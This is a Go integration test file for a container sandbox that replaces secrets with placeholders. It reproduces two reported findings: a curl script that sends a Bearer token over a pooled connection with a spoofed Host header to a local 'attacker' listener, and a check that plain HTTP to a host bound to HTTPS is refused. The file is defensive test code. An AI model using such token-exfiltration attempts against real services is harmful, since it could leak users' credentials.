//go:build integration

package integration

import (
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"sync"
	"syscall"
	"testing"
)

// plainRecorder is a plain HTTP server that records what it was sent and
// echoes the Authorization header back in a header and in the body.
type plainRecorder struct {
	ln   net.Listener
	port int
	mu   sync.Mutex
	got  strings.Builder
}

func (p *plainRecorder) seen() string {
	p.mu.Lock()
	defer p.mu.Unlock()
	return p.got.String()
}

func servePlain(t *testing.T, ln net.Listener, name string) *plainRecorder {
	t.Helper()
	p := &plainRecorder{ln: ln, port: ln.Addr().(*net.TCPAddr).Port}
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		auth := r.Header.Get("Authorization")
		p.mu.Lock()
		fmt.Fprintf(&p.got, "%s %s %s auth=%q body=%q\n", r.Method, r.Host, r.URL, auth, body)
		p.mu.Unlock()
		w.Header().Set("X-Echo", auth)
		fmt.Fprintf(w, "%s echo: %s\n", name, auth)
	})}
	go func() { _ = srv.Serve(ln) }()
	t.Cleanup(func() { srv.Close() })
	return p
}

// hostAddr is an IPv4 address of the host that is not loopback: from the
// guest, 127.0.0.1 is the VM's own.
func hostAddr(t *testing.T) string {
	t.Helper()
	addrs, err := net.InterfaceAddrs()
	if err != nil {
		t.Fatal(err)
	}
	for _, a := range addrs {
		if ipn, ok := a.(*net.IPNet); ok && ipn.IP.To4() != nil && !ipn.IP.IsLoopback() && !ipn.IP.IsLinkLocalUnicast() {
			return ipn.IP.String()
		}
	}
	t.Skip("the host has no non-loopback IPv4 address for the attacker's listener")
	return ""
}

// boundAndAttacker starts the secret's real upstream on 127.0.0.1:P (the
// runtime config maps api.x.test there) and the attacker's listener on
// hostIP:P, the same port, so a Host header naming api.x.test:P fits both.
func boundAndAttacker(t *testing.T, hostIP string) (good, attacker *plainRecorder) {
	t.Helper()
	for i := 0; i < 20; i++ {
		gl, err := net.Listen("tcp", "127.0.0.1:0")
		if err != nil {
			t.Fatal(err)
		}
		port := gl.Addr().(*net.TCPAddr).Port
		al, err := net.Listen("tcp", net.JoinHostPort(hostIP, fmt.Sprint(port)))
		if errors.Is(err, syscall.EADDRINUSE) {
			gl.Close()
			continue
		}
		if err != nil {
			gl.Close()
			t.Fatal(err)
		}
		return servePlain(t, gl, "bound"), servePlain(t, al, "attacker")
	}
	t.Fatal("no port free on both 127.0.0.1 and the host address")
	return nil, nil
}

// Issue 14 finding 2, from a real container: in net.mode=open, curl opens
// one keep-alive connection to the attacker's address, sends a request
// naming the bound host and no secret, then (--next, same connection) one
// carrying the placeholder. The real value must reach the bound host and
// never the attacker. Then the bound host echoes the header back: the
// container sees only the placeholder.
func TestHostileSecretPooledConnection(t *testing.T) {
	u := startUpstream(t)
	hostIP := hostAddr(t)
	good, attacker := boundAndAttacker(t, hostIP)
	cfg, auditDir := runtimeConfig(t, u, "")
	p := good.port
	script := fmt.Sprintf(`curl -sv --max-time 20 -H 'Host: api.x.test:%[1]d' http://%[2]s:%[1]d/first --next -s --max-time 20 -H 'Host: api.x.test:%[1]d' -H "Authorization: Bearer $TOKEN" http://%[2]s:%[1]d/second
echo; echo ---echo---
curl -si --max-time 20 -H "Authorization: Bearer $TOKEN" http://api.x.test:%[1]d/echo`, p, hostIP)
	res, id := egressRun(t, cfg,
		[]string{"io.gondolin.net.mode=open", "io.gondolin.net.allow-internal=" + hostIP, fmt.Sprintf("io.gondolin.secret.TOKEN=http://api.x.test:%d", p)},
		[]string{"TOKEN=" + testSecret}, script)
	t.Logf("container: %s\nattacker saw:\n%s\nbound host saw:\n%s", res, attacker.seen(), good.seen())
	if strings.Contains(attacker.seen(), testSecret) {
		t.Fatalf("the attacker's listener received the real value")
	}
	if !strings.Contains(attacker.seen(), "/first") {
		t.Fatalf("the attack did not run: the first request should reach the attacker's address (%s)", res)
	}
	if !strings.Contains(good.seen(), "/second") || !strings.Contains(good.seen(), testSecret) {
		t.Fatalf("the request with the placeholder should reach the bound host with the value: %s", good.seen())
	}
	if !strings.Contains(res.stderr, "Re-using existing connection") && !strings.Contains(res.stderr, "Reusing existing") {
		t.Logf("note: curl did not report reusing its connection")
	}
	out := res.stdout + res.stderr
	if strings.Contains(out, testSecret) {
		t.Fatalf("the real value came back into the container: %s", res)
	}
	echo := res.stdout[strings.Index(res.stdout, "---echo---"):]
	if !strings.Contains(echo, "X-Echo: Bearer GONDOLIN_SECRET_") || !strings.Contains(echo, "bound echo: Bearer GONDOLIN_SECRET_") {
		t.Fatalf("the echo should carry the placeholder: %s", echo)
	}
	_, raw := readAudit(t, auditDir, id)
	if strings.Contains(raw, testSecret) {
		t.Fatalf("audit holds the value:\n%s", raw)
	}
}

// Issue 14 finding 7a, from a real container: a secret named without a
// scheme is bound to HTTPS; the placeholder over plain HTTP to the same
// host and port is refused and the value never goes out in clear.
func TestHostileSecretPlainHTTPRefused(t *testing.T) {
	u := startUpstream(t)
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	plain := servePlain(t, ln, "plain")
	cfg, auditDir := runtimeConfig(t, u, "")
	script := fmt.Sprintf(`curl -s -o /dev/null -w 'http %%{http_code}\n' --max-time 20 -H "Authorization: Bearer $TOKEN" http://api.x.test:%[1]d/clear
curl -s -o /dev/null -w 'https %%{http_code}\n' --max-time 20 -H "Authorization: Bearer $TOKEN" https://api.x.test:%[2]d/tls`, plain.port, u.port)
	res, id := egressRun(t, cfg,
		[]string{fmt.Sprintf("io.gondolin.net.allow=api.x.test:%d,api.x.test:%d", plain.port, u.port),
			fmt.Sprintf("io.gondolin.secret.TOKEN=api.x.test:%d,api.x.test:%d", plain.port, u.port)},
		[]string{"TOKEN=" + testSecret}, script)
	if !strings.Contains(res.stdout, "http 403") || !strings.Contains(res.stdout, "https 200") {
		t.Fatalf("want plain HTTP refused and HTTPS allowed: %s", res)
	}
	if plain.seen() != "" {
		t.Fatalf("the plain-HTTP listener received a request: %s", plain.seen())
	}
	if seen := strings.Join(u.seen(), "\n"); !strings.Contains(seen, "/tls auth-ok") {
		t.Fatalf("the HTTPS upstream should get the value: %s", seen)
	}
	lines, raw := readAudit(t, auditDir, id)
	if !hasDecision(lines, "api.x.test", "denied") || strings.Contains(raw, testSecret) {
		t.Fatalf("audit:\n%s", raw)
	}
}
